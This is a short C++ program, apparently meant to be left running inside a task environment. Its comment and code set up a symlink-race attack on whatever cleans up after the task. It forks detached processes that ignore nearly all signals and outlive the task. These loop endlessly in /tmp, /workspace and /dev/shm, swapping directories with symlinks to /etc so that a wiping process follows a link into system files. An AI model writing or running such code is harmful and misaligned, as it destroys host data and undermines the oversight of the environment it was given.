// Processes that make and swap entries without pause, from before the end of the task until they are killed, in the hope that
// whoever wipes follows a link that was a directory a moment ago.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int main() {
    for (int number = 0; number < 10; ++number) {
        if (fork() != 0) continue;
        setsid();
        for (int signal_number = 1; signal_number < 65; ++signal_number) signal(signal_number, SIG_IGN);
        char name[64], other[64], link[64];
        for (unsigned turn = 0;; ++turn) {
            const char* place = turn % 3 == 0 ? "/tmp" : turn % 3 == 1 ? "/workspace" : "/dev/shm";
            snprintf(name, sizeof name, "%s/race%d", place, number);
            snprintf(other, sizeof other, "%s/race%d/inner", place, number);
            snprintf(link, sizeof link, "%s/link%d", place, number);
            mkdir(name, 0700);
            mkdir(other, 0700);
            symlink("/etc", link);
            rename(link, other);
            renameat2(AT_FDCWD, name, AT_FDCWD, link, RENAME_EXCHANGE);
            if (fork() == 0) _exit(0);
        }
    }
    usleep(150000);
    puts("racing");
    fflush(stdout);
    _exit(0);
}
